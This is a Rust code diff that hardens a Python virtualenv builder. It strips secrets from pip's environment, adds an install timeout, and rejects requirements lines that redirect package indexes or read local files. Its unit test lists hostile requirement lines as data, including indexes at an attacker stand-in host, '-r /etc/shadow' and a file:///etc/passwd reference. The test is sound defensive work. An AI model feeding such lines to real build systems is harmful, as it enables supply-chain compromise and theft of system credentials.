@@ -10,6 +10,7 @@ use std::collections::HashMap;
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
 use std::sync::{Arc, Mutex};
+use std::time::Duration;
 
 use sha2::{Digest, Sha256};
 
@@ -48,6 +49,7 @@ impl Venvs {
                 )));
             }
         };
+        check_requirements(&contents)?;
         let hash = env_hash(python, &contents);
         let dir = self.root.join(&hash);
         let build_lock = lock(&self.building).entry(hash).or_default().clone();
@@ -119,15 +121,54 @@ async fn build(
         .map_err(|e| Error::Prepare(format!("cannot write to {}: {e}", dir.display())))
 }
 
+/// How long creating a virtualenv or installing requirements may take.
+const PREPARE_TIMEOUT: Duration = Duration::from_secs(10 * 60);
+
+/// Variables pip and venv get from the node's environment: the operator's
+/// choice of index, proxies and certificates, nothing else (no tokens or
+/// secrets of the node reach a requirements file's packages' build scripts).
+const PASSED_TO_PIP: &[&str] = &[
+    "PATH",
+    "LANG",
+    "LC_ALL",
+    "TZ",
+    "HTTP_PROXY",
+    "HTTPS_PROXY",
+    "NO_PROXY",
+    "http_proxy",
+    "https_proxy",
+    "no_proxy",
+    "SSL_CERT_FILE",
+    "SSL_CERT_DIR",
+    "REQUESTS_CA_BUNDLE",
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_TRUSTED_HOST",
+    "PIP_CERT",
+    "PIP_FIND_LINKS",
+    "PIP_NO_INDEX",
+];
+
 async fn run(mut cmd: tokio::process::Command, what: &str) -> Result<()> {
     cmd.stdin(Stdio::null())
+        .env_clear()
+        .envs(
+            std::env::vars_os()
+                .filter(|(name, _)| name.to_str().is_some_and(|n| PASSED_TO_PIP.contains(&n))),
+        )
+        .env("HOME", std::env::temp_dir())
         .env("PIP_NO_INPUT", "1")
         .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
         .kill_on_drop(true);
-    let output = cmd
-        .output()
-        .await
-        .map_err(|e| Error::Prepare(format!("{what} could not start: {e}")))?;
+    let output = match tokio::time::timeout(PREPARE_TIMEOUT, cmd.output()).await {
+        Ok(output) => output.map_err(|e| Error::Prepare(format!("{what} could not start: {e}")))?,
+        Err(_) => {
+            return Err(Error::Prepare(format!(
+                "{what} took longer than {} minutes and was stopped",
+                PREPARE_TIMEOUT.as_secs() / 60
+            )));
+        }
+    };
     if output.status.success() {
         return Ok(());
     }
@@ -147,6 +188,48 @@ fn env_hash(python: &Path, requirements: &[u8]) -> String {
     hasher.update([0]);
     hasher.update(requirements);
     hex::encode(hasher.finalize())
+}
+
+/// Refuses requirement lines that choose where packages come from or read
+/// files of the node: the index is the operator's choice (`PIP_INDEX_URL`
+/// on the node), not a function's.
+fn check_requirements(contents: &[u8]) -> Result<()> {
+    const OPTIONS: &[&str] = &[
+        "-i",
+        "--index-url",
+        "--extra-index-url",
+        "--no-index",
+        "-f",
+        "--find-links",
+        "--trusted-host",
+        "-r",
+        "--requirement",
+        "-c",
+        "--constraint",
+        "-e",
+        "--editable",
+    ];
+    let text = std::str::from_utf8(contents)
+        .map_err(|_| Error::Prepare("requirements.txt is not UTF-8 text".into()))?;
+    for (n, line) in text.lines().enumerate() {
+        let line = line.split(" #").next().unwrap_or("").trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let first = line.split([' ', '=', '\t']).next().unwrap_or("");
+        let refused = OPTIONS.contains(&first)
+            || line.contains("file:")
+            || line.starts_with('/')
+            || line.starts_with('.')
+            || line.starts_with('~');
+        if refused {
+            return Err(Error::Prepare(format!(
+                "requirements.txt line {}: `{line}` is not allowed; list packages only (name and version); the node's operator chooses the package index",
+                n + 1
+            )));
+        }
+    }
+    Ok(())
 }
 
 /// True when the file names anything to install (not only blanks and comments).
@@ -185,6 +268,27 @@ mod tests {
         assert_eq!(a.len(), 64);
         assert_ne!(a, env_hash(Path::new("/usr/bin/python3"), b"x==2"));
         assert_ne!(a, env_hash(Path::new("/opt/python3"), b"x==1"));
+    }
+
+    #[test]
+    fn requirements_name_packages_only() {
+        assert!(check_requirements(b"numpy==2.1\nrequests>=2 # http\n\n# c\n").is_ok());
+        for bad in [
+            "--index-url https://evil.example/simple",
+            "-i https://evil.example/simple",
+            "--extra-index-url=https://evil.example",
+            "-f /root/wheels",
+            "--find-links https://evil.example",
+            "--trusted-host evil.example",
+            "-r /etc/shadow",
+            "-e git+https://evil.example/x.git#egg=x",
+            "x @ file:///etc/passwd",
+            "/root/pkg.whl",
+            "./local",
+        ] {
+            let err = check_requirements(format!("numpy\n{bad}\n").as_bytes()).unwrap_err();
+            assert!(err.to_string().contains("line 2"), "{bad}: {err}");
+        }
     }
 
     #[test]
